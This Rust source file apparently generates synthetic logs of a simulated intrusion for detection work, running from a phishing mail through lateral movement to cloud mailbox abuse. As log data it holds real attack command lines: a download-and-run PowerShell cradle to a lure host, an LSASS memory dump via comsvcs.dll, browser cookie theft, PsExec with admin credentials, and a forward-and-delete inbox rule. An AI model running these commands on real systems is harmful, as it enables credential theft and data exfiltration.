//! A mail, a click, a payload; discovery, credential theft, a server; then, with the stolen session, the cloud.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use event::Time;

use super::{Script, is_desk_worker};
use crate::activity::{admin, identity};
use crate::clock::after;
use crate::company::{Host, Job, Person, Server};
use crate::names::DOCUMENTS;
use crate::record::Recorder;
use crate::record::cloud_app::{CloudActivity, SHAREPOINT};
use crate::record::defender::DirectoryLogon;
use crate::record::email::{Mail, Verdict};
use crate::record::endpoint::{Access, Connection, Spawn};
use crate::record::entra::{Device, DirectoryChange, EVERYDAY_APPS, LINUX_AGENT, Mfa, OFFICE_HOME, Outcome, Risk, SCRIPT_AGENT, Signin};
use crate::record::office::{FileUse, MailClient};
use crate::record::process::{self, Process, Program, Standing};
use crate::record::security::{Logon, LogonType};

/// What the victim downloads.
static PAYLOADS: [Program; 3] = [
    process::unknown("C:\\Users\\%USER%\\Downloads\\Remittance_advice.pdf.exe"),
    process::unknown("C:\\Users\\%USER%\\Downloads\\SecureDocViewer.exe"),
    process::unknown("C:\\Users\\%USER%\\Downloads\\Payment_details_scan.exe"),
];

/// The people and machines of one telling.
struct Cast<'c> {
    victim: &'c Person,
    desk: &'c Host,
    admin: &'c Person,
    server: &'c Host,
}

pub(super) fn play(script: &mut Script<'_>) {
    let victim = script.victim(is_desk_worker);
    let company = script.company();
    let cast = Cast {
        victim,
        desk: company.host_of(victim),
        admin: company.someone(&mut script.rec.dice, Job::ItAdmin),
        server: company.server(Server::Files),
    };
    morning(script, &cast);
    mail_and_click(script, &cast);
    let payload = execution(script, &cast);
    let shell = discovery(script, &cast, &payload);
    credential_theft(script, &cast, &payload, &shell);
    lateral_movement(script, &cast, &shell);
    look_alikes(script, &cast);
    cloud_sign_in(script, &cast);
    app_abuse(script, &cast);
    mailbox(script, &cast);
    mass_download(script, &cast);
}

/// The victim's and the administrator's working day begins as every day.
fn morning(script: &mut Script<'_>, cast: &Cast<'_>) {
    script.meanwhile();
    let (company, start) = (script.company(), script.timing.start);
    for (i, person) in [cast.victim, cast.admin].into_iter().enumerate() {
        let at = after(start, -90.0 + 10.0 * i as f64);
        let (host, who) = (company.host_of(person), &person.identity);
        identity::sign_in_to_domain(&mut script.rec, at, person);
        script.rec.defender_logon(host, after(at, 1.0), &Logon { who, kind: LogonType::Interactive, from: ("", ""), package: "Kerberos", elevated: false }, true);
        script.rec.sign_in(after(at, 20.0), &Signin {
            person, ip: &company.nat_ip, place: company.place, app: &EVERYDAY_APPS[0], device: Device::Managed(host), outcome: Outcome::Success,
            mfa: Mfa::NotRequired, risk: Risk::None, interactive: true, user_agent: crate::record::entra::EDGE_AGENT,
        });
    }
}

fn mail_and_click(script: &mut Script<'_>, cast: &Cast<'_>) {
    let company = script.company();
    let (from, url) = (format!("accounts@{}", script.lure_domain), format!("https://{}/d/{}", script.lure_domain, script.rec.dice.hex(6)));
    let urls = [url.as_str()];
    let subject = format!("Remittance advice {} - action required", 20_000 + script.rec.dice.below(9_000));
    let mail = Mail {
        network_id: script.rec.dice.guid(),
        from_address: &from,
        from_name: "Accounts Payable",
        from_object: "",
        from_ip: &script.server_ip,
        to: cast.victim.upn(),
        to_object: &cast.victim.identity.object_id,
        subject: &subject,
        direction: "Inbound",
        verdict: Verdict::PhishDelivered,
        urls: &urls,
        attachments: &[],
    };
    let (delivered, clicked, purged) = (script.at(0.0), script.at(0.03), script.at(0.98));
    script.rec.step = Some("phish_delivered");
    script.rec.mail(delivered, &mail);
    for i in 1..=2 {
        let other = script.rec.anyone();
        let copy = Mail { network_id: script.rec.dice.guid(), to: other.upn(), to_object: &other.identity.object_id, verdict: Verdict::PhishBlocked, ..mail.clone() };
        script.rec.mail(after(delivered, f64::from(i)), &copy);
    }
    script.rec.step = Some("phish_clicked");
    script.rec.click(clicked, &mail, &url, &company.nat_ip, true);
    script.rec.step = Some("phish_purged");
    script.rec.purge(purged, &mail);
}

fn execution(script: &mut Script<'_>, cast: &Cast<'_>) -> Process {
    let (host, who) = (cast.desk, &cast.victim.identity);
    let (clicked, run) = (script.at(0.035), script.at(0.06));
    let program = &PAYLOADS[(script.number as usize).saturating_sub(1) % PAYLOADS.len()];
    let (lure, ip) = (script.lure_domain.clone(), script.server_ip.clone());
    let explorer = Standing::Explorer.on(host, who);
    let rec = &mut script.rec;
    rec.step = None;
    let browser = rec.spawn(host, after(clicked, -0.5), Spawn::new(&explorer, &process::EDGE, "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://outlook.office.com/", who));
    rec.step = Some("payload_downloaded");
    rec.visit(host, clicked, &browser, who, (&lure, &ip));
    let path = process::image_of(program, who);
    rec.write_file(host, after(clicked, 8.0), &browser, who, &path);
    rec.step = Some("payload_executed");
    let payload = rec.spawn(host, run, Spawn::new(&explorer, program, format!("\"{path}\" "), who));
    rec.step = Some("command_and_control");
    let command_host = format!("cdn.{lure}");
    rec.visit(host, after(run, 1.5), &payload, who, (&command_host, &ip));
    rec.visit(host, after(run, 62.0), &payload, who, (&command_host, &ip));
    rec.step = Some("persistence");
    let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\DocViewer", who.sid);
    rec.set_value(host, after(run, 20.0), &payload, who, &key, &path);
    let task = format!("schtasks.exe /create /f /sc onlogon /tn \\DocViewerUpdate /tr \"{path}\"");
    rec.run(host, after(run, 26.0), Spawn::new(&payload, &process::SCHTASKS, task, who));
    payload
}

fn discovery(script: &mut Script<'_>, cast: &Cast<'_>, payload: &Process) -> Process {
    static COMMANDS: [(&Program, &str); 6] = [
        (&process::WHOAMI, "whoami  /all"),
        (&process::SYSTEMINFO, "systeminfo"),
        (&process::NET, "net  group \"Domain Admins\" /domain"),
        (&process::NLTEST, "nltest  /domain_trusts /all_trusts"),
        (&process::IPCONFIG, "ipconfig  /all"),
        (&process::NET, "net  view /all /domain"),
    ];
    let (host, who) = (cast.desk, &cast.victim.identity);
    let (start, lure, ip) = (script.at(0.10), script.lure_domain.clone(), script.server_ip.clone());
    let rec = &mut script.rec;
    rec.step = Some("discovery");
    let console = rec.spawn(host, start, Spawn::new(payload, &process::CMD, "C:\\Windows\\system32\\cmd.exe", who));
    let mut now = after(start, 4.0);
    for (program, command) in COMMANDS.iter() {
        rec.run(host, now, Spawn::new(&console, program, *command, who));
        let pause = rec.seconds(4.0, 18.0);
        now = after(now, pause);
    }
    rec.step = Some("encoded_powershell");
    let code = format!("IEX (New-Object Net.WebClient).DownloadString('http://cdn.{lure}/a')");
    let shell = rec.spawn(host, after(now, 5.0), Spawn::new(payload, &process::POWERSHELL, encoded(&code), who).elevated());
    rec.script(host, after(now, 6.0), &code, "");
    rec.connect(host, after(now, 6.5), &shell, who, &Connection::to(&ip, 80, &format!("cdn.{lure}")));
    shell
}

/// The command line of an encoded script.
fn encoded(code: &str) -> String {
    let bytes: Vec<u8> = code.encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!("powershell.exe -nop -w hidden -enc {}", STANDARD.encode(bytes))
}

fn credential_theft(script: &mut Script<'_>, cast: &Cast<'_>, payload: &Process, shell: &Process) {
    let (host, who, system) = (cast.desk, &cast.victim.identity, &script.company().system);
    let at = script.at(0.22);
    let lsass = Standing::Lsass.on(host, system);
    let rec = &mut script.rec;
    rec.step = Some("lsass_read");
    let read = |source, granted, unbacked| Access { source, source_user: who, target: &lsass, target_user: system, granted, unbacked };
    rec.access(host, at, &read(payload, "0x1410", true));
    rec.access(host, after(at, 0.4), &read(payload, "0x1010", true));
    rec.step = Some("lsass_dump");
    let command = format!("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\dbg71.dmp full", lsass.pid);
    let dump = rec.spawn(host, after(at, 30.0), Spawn::new(shell, &process::RUNDLL32, command, who).elevated());
    rec.access(host, after(at, 30.2), &read(&dump, "0x1fffff", false));
    rec.write_file(host, after(at, 31.0), &dump, who, "C:\\Windows\\Temp\\dbg71.dmp");
    rec.step = Some("browser_session_theft");
    let cookies = format!("cmd.exe /c copy /y \"C:\\Users\\{0}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies\" C:\\Users\\{0}\\AppData\\Local\\Temp\\ck.db", who.name);
    let copy = rec.run(host, after(at, 60.0), Spawn::new(shell, &process::CMD, cookies, who).elevated());
    rec.write_file(host, after(at, 60.3), &copy, who, &format!("C:\\Users\\{}\\AppData\\Local\\Temp\\ck.db", who.name));
}

fn lateral_movement(script: &mut Script<'_>, cast: &Cast<'_>, shell: &Process) {
    let company = script.company();
    let (host, server, admin) = (cast.desk, cast.server, &cast.admin.identity);
    let at = script.at(0.32);
    script.step("remote_execution");
    let rec = &mut script.rec;
    let victim = &cast.victim.identity;
    rec.write_file(host, after(at, -10.0), shell, victim, "C:\\Users\\Public\\PsExec64.exe");
    let command = format!("C:\\Users\\Public\\PsExec64.exe -accepteula \\\\{} -u {} -p ******** -s cmd.exe", server.name, admin.account);
    let psexec = rec.spawn(host, at, Spawn::new(shell, &process::PSEXEC, command, victim).elevated());
    rec.connect(host, after(at, 0.5), &psexec, victim, &Connection::to(&server.ip, 445, &server.fqdn));
    rec.step = Some("stolen_admin_logon");
    rec.directory_logon(after(at, 0.8), &DirectoryLogon { who: admin, display_name: &cast.admin.display_name, from: host, to: company.server(Server::DomainController), protocol: "Ntlm", failure: None });
    rec.log_on(server, after(at, 1.0), &Logon { who: admin, kind: LogonType::Network, from: (&host.name, &host.ip), package: "NTLM", elevated: true });
    on_server(rec, after(at, 1.5), cast);
}

/// What the attacker does on the server.
fn on_server(rec: &mut Recorder<'_>, at: Time, cast: &Cast<'_>) {
    let (server, desk, system) = (cast.server, cast.desk, &rec.company.system);
    rec.step = Some("service_installed");
    let kernel = Standing::System.on(server, system);
    rec.connect(server, at, &kernel, system, &Connection::from(&desk.ip, 445, &desk.fqdn));
    rec.write_file(server, after(at, 0.1), &kernel, system, "C:\\Windows\\PSEXESVC.exe");
    rec.service_installed(server, after(at, 0.3), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    let services = Standing::Services.on(server, system);
    let service = rec.spawn(server, after(at, 0.5), Spawn::new(&services, &process::PSEXEC_SERVICE, "C:\\Windows\\PSEXESVC.exe", system));
    rec.step = Some("server_commands");
    let console = rec.spawn(server, after(at, 1.0), Spawn::new(&service, &process::CMD, "\"cmd.exe\"", system));
    rec.run(server, after(at, 6.0), Spawn::new(&console, &process::WHOAMI, "whoami", system));
    rec.run(server, after(at, 14.0), Spawn::new(&console, &process::NET, "net  share", system));
    rec.step = Some("collection");
    let archive = rec.spawn(server, after(at, 45.0), Spawn::new(&console, &process::SEVEN_ZIP, "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pQ7h2 C:\\Windows\\Temp\\out.7z D:\\Shares\\Finance\\*", system));
    rec.write_file(server, after(at, 50.0), &archive, system, "C:\\Windows\\Temp\\out.7z");
    rec.exit(server, after(at, 80.0), &archive, system);
}

/// Harmless work next to the attack: a troubleshooter on the same machine by the same person, a dump by an
/// administrator, a secret that is rotated on schedule.
fn look_alikes(script: &mut Script<'_>, cast: &Cast<'_>) {
    script.meanwhile();
    let (troubleshooter, dump, secret) = (script.at(0.42), script.at(0.2), script.at(0.55));
    let other = script.company().someone(&mut script.rec.dice, Job::ItAdmin);
    admin::diagnostics(&mut script.rec, troubleshooter, cast.victim);
    admin::dump_hung_service(&mut script.rec, dump);
    identity::rotate_app_secret(&mut script.rec, secret, other);
    identity::everyday_sign_in(&mut script.rec, secret, other);
}

fn cloud_sign_in(script: &mut Script<'_>, cast: &Cast<'_>) {
    let at = script.at(0.62);
    script.step("stolen_session_sign_in");
    let ip = script.cloud_ip.clone();
    let signin = Signin {
        person: cast.victim,
        ip: &ip,
        place: script.place,
        app: &OFFICE_HOME,
        device: Device::Unknown("Linux", "Firefox 115.0"),
        outcome: Outcome::Success,
        mfa: Mfa::ClaimInToken,
        risk: Risk::High("[\"anomalousToken\",\"unfamiliarFeatures\"]"),
        interactive: true,
        user_agent: LINUX_AGENT,
    };
    script.rec.sign_in(at, &signin);
    let again = Signin { app: &EVERYDAY_APPS[4], risk: Risk::Medium("[\"unfamiliarFeatures\"]"), ..signin };
    script.rec.sign_in(after(at, 40.0), &again);
}

fn app_abuse(script: &mut Script<'_>, cast: &Cast<'_>) {
    let (consent, credential) = (script.at(0.68), script.at(0.71));
    let (by, ip) = (&cast.victim.identity, script.cloud_ip.clone());
    let app = script.company().guid_of(&format!("app/{}", script.number)).to_string();
    let change = DirectoryChange {
        operation: "Consent to application",
        category: "ApplicationManagement",
        verb: "Assign",
        by,
        ip: &ip,
        user_agent: LINUX_AGENT,
        target: (&app, "Mail Archive Pro", "ServicePrincipal"),
        properties: &[("ConsentContext.IsAdminConsent", "\"False\""), ("ConsentAction.Permissions", "\"[[Id: , ClientId: , PrincipalId: , Scope: Mail.ReadWrite Files.Read.All offline_access, ConsentType: Principal]]\"")],
    };
    script.step("app_consent");
    script.rec.directory_change(consent, &change);
    let grant = DirectoryChange { operation: "Add delegated permission grant", properties: &[("DelegatedPermissionGrant.Scope", "\"Mail.ReadWrite Files.Read.All offline_access\""), ("DelegatedPermissionGrant.ConsentType", "\"Principal\"")], ..change };
    script.rec.directory_change(after(consent, 0.3), &grant);
    script.step("app_credential");
    let key = format!("[\"[KeyIdentifier={},KeyType=Password,KeyUsage=Verify,DisplayName=sync]\"]", script.rec.dice.guid());
    let add = DirectoryChange { operation: "Add service principal credentials", verb: "Update", properties: &[("KeyDescription", &key)], ..change };
    script.rec.directory_change(credential, &add);
}

fn mailbox(script: &mut Script<'_>, cast: &Cast<'_>) {
    let (read, rule) = (script.at(0.76), script.at(0.84));
    let (ip, forward) = (script.cloud_ip.clone(), format!("smtp:archive@{}", script.lure_domain));
    let app = script.company().guid_of(&format!("app/{}", script.number)).to_string();
    script.step("mailbox_read");
    for i in 0..5 {
        script.rec.mail_read(after(read, 12.0 * f64::from(i)), cast.victim, &ip, MailClient::Rest(&app), 30);
    }
    script.step("inbox_rule");
    let parameters = [
        ("AlwaysDeleteOutlookRulesBlob", "False"),
        ("Force", "False"),
        ("Name", ".."),
        ("SubjectOrBodyContainsWords", "invoice;payment;phish;hacked"),
        ("ForwardTo", forward.as_str()),
        ("DeleteMessage", "True"),
        ("StopProcessingRules", "True"),
    ];
    script.rec.exchange_admin(rule, cast.victim, &ip, "New-InboxRule", &parameters);
}

fn mass_download(script: &mut Script<'_>, cast: &Cast<'_>) {
    let at = script.at(0.90);
    let ip = script.cloud_ip.clone();
    script.step("mass_download");
    for i in 0..60 {
        let file = format!("{:02}_{}", i, DOCUMENTS[i % DOCUMENTS.len()]);
        let download = FileUse { operation: "FileDownloaded", ip: &ip, user_agent: SCRIPT_AGENT, site: "finance", file: &file };
        let now = after(at, 2.5 * i as f64);
        script.rec.file_used(now, cast.victim, &download);
        if i % 10 == 0 {
            let place = script.place;
            script.rec.cloud_activity(now, &CloudActivity { person: cast.victim, action: "FileDownloaded", application: SHAREPOINT, ip: &ip, place, user_agent: SCRIPT_AGENT, object: &file });
        }
    }
}
